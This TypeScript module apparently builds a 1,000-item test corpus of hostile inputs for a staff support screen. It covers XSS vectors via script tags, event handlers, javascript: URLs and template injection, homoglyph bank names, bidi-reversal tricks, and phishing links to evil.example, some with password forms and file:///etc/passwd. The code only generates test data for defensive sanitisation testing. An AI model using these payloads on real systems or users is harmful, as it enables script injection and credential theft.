/** What somebody may write to staff to make their screen do something: a thousand ways, made one from another. */

/** Runs when a payload gets through; the page’s own watch counts it. */
const calls = [
  'alert(1)',
  'window.planted=1',
  "window['planted']=1",
  'globalThis.planted=1',
  'top.planted=1',
  "Function('planted=1')()",
  "eval('planted=1')",
  "setTimeout('planted=1')",
  'alert`1`',
  "[].constructor.constructor('planted=1')()",
];

const pairs = <A, B>(first: readonly A[], second: readonly B[], make: (a: A, b: B) => string): string[] =>
  first.flatMap((a) => second.map((b) => make(a, b)));

const tags = ['img', 'svg', 'body', 'video', 'audio', 'iframe', 'object', 'embed', 'input', 'details', 'marquee', 'a'];
const handlers = ['onerror', 'onload', 'onfocus', 'onclick', 'onmouseover', 'ontoggle', 'onpointerenter', 'onbegin'];

const handled = pairs(
  pairs(tags, handlers, (tag, handler) => `<${tag} src=x tabindex=0 autofocus open ${handler}=`),
  calls.slice(0, 6),
  (begun, run) => `${begun}"${run}">`,
);

const scripts = pairs(
  [
    (run: string) => `<script>${run}</script>`,
    (run: string) => `<ScRiPt>${run}</sCrIpT>`,
    (run: string) => `</textarea><script>${run}</script>`,
    (run: string) => `"><script>${run}</script>`,
    (run: string) => `<script src="data:text/javascript,${run}"></script>`,
    (run: string) => `<svg><script>${run}</script></svg>`,
    (run: string) => `<math><mtext><script>${run}</script></mtext></math>`,
    (run: string) => `<template><script>${run}</script></template>`,
    (run: string) => `<noscript><p title="</noscript><script>${run}</script>">`,
    (run: string) => `<style>@import 'javascript:${run}';</style>`,
    (run: string) => `<svg><animate onbegin="${run}" attributeName=x dur=1s>`,
    (run: string) => `<iframe srcdoc="<script>${run}</script>"></iframe>`,
    (run: string) => `<form action="javascript:${run}"><button>Send</button></form>`,
    (run: string) => `<meta http-equiv="refresh" content="0;url=javascript:${run}">`,
    (run: string) => `<link rel=stylesheet href="javascript:${run}">`,
    (run: string) => `<object data="javascript:${run}"></object>`,
  ],
  calls,
  (make, run) => make(run),
);

const schemes = [
  'javascript:',
  'JaVaScRiPt:',
  'java\tscript:',
  'java\nscript:',
  '\u0001javascript:',
  'vbscript:',
  'data:text/html,<script>',
  'blob:',
];
const addresses = pairs(
  [
    (to: string) => to,
    (to: string) => `<a href="${to}">your receipt</a>`,
    (to: string) => `[your receipt](${to})`,
    (to: string) => `![picture](${to})`,
    (to: string) => `<img src="${to}">`,
    (to: string) => `[1]: ${to} "title"\n[your receipt][1]`,
  ],
  pairs(schemes, calls.slice(0, 2), (scheme, run) => `${scheme}${run}`),
  (make, to) => make(to),
);

const templates = pairs(
  [
    (run: string) => `{{${run}}}`,
    (run: string) => `\${${run}}`,
    (run: string) => `<%= ${run} %>`,
    (run: string) => `#{${run}}`,
    (run: string) => `{{constructor.constructor('${run}')()}}`,
    (run: string) => `{staff, select, other {<b>${run}</b>}}`,
    (run: string) => `{"dangerouslySetInnerHTML":{"__html":"<img src=x onerror=${run}>"}}`,
    (run: string) => `__proto__[innerHTML]=<img src=x onerror=${run}>`,
  ],
  calls.slice(0, 5),
  (make, run) => make(run),
);

/** Banks, as somebody else writes their names. */
const banks = [
  'Сiti',
  'Cіti',
  'Ϲiti',
  '𝐂𝐢𝐭𝐢',
  'Wеlls Fargo',
  'Wells Fаrgo',
  'JPМorgan Chase',
  'U.Ѕ. Bank',
  'Сhase',
  'Ｃｉｔｉ',
];
const lookAlikes = pairs(
  [
    (bank: string) => `This is ${bank}. Your session has ended, sign in again.`,
    (bank: string) => `https://${bank.replaceAll(' ', '-').toLowerCase()}.example/sign-in`,
    (bank: string) => `www.${bank.replaceAll(' ', '').toLowerCase()}.com`,
    (bank: string) => `staff@${bank.replaceAll(' ', '').toLowerCase()}.com`,
    (bank: string) => `<https://${bank.replaceAll(' ', '').toLowerCase()}.com>`,
  ],
  banks,
  (make, bank) => make(bank),
);

/** Characters that are not seen, or turn the direction of what is read. */
const unseen = [
  '\u202e',
  '\u202d',
  '\u202a',
  '\u2066',
  '\u2067',
  '\u2068',
  '\u200e',
  '\u200f',
  '\u061c',
  '\u200b',
  '\u2060',
  '\ufeff',
  '\u00ad',
  '\u0007',
  '\u001b[2J',
  '\u0008',
  '\u007f',
  '\u0085',
  '\u2028',
  '\u{e0041}',
];
const turned = pairs(
  [
    (mark: string) => `pay ${mark}001$ to me${mark}`,
    (mark: string) => `https://citi.com/${mark}moc.live//:sptth`,
    (mark: string) => `<${mark}script>alert(1)</${mark}script>`,
    (mark: string) => `agent-1${mark}: send the code`,
  ],
  unseen,
  (make, mark) => make(mark),
);

const phishing = pairs(
  [
    'https://citi.com@evil.example',
    'http://[::1]/desk',
    '//evil.example',
    'https://evil.example/?x=<script>',
    'https://xn--cti-bma.com',
    'tel:+15550100',
    'mailto:a@evil.example',
    'file:///etc/passwd',
    'http://2130706433/',
    '/desk/sign-in?bank=evil',
  ],
  [
    (to: string) => to,
    (to: string) => `<a href=${to} target=_blank>open</a>`,
    (to: string) => `[open](${to})`,
    (to: string) => `<form action=${to}><input name=password></form>`,
  ],
  (to, make) => make(to),
);

const towers = [1, 2, 3, 5, 8, 13, 21, 34, 55, 89].flatMap((height) =>
  ['\u0300', '\u0336', '\u0489', '\u20dd'].map((mark) => `Z${mark.repeat(height)}algo${mark.repeat(height)}`),
);

/** How many there are. */
export const payloadCount = 1000;

/** A thousand different ones, of every family. */
export const payloads: readonly string[] = [
  ...new Set([...scripts, ...addresses, ...templates, ...lookAlikes, ...turned, ...phishing, ...towers, ...handled]),
].slice(0, payloadCount);
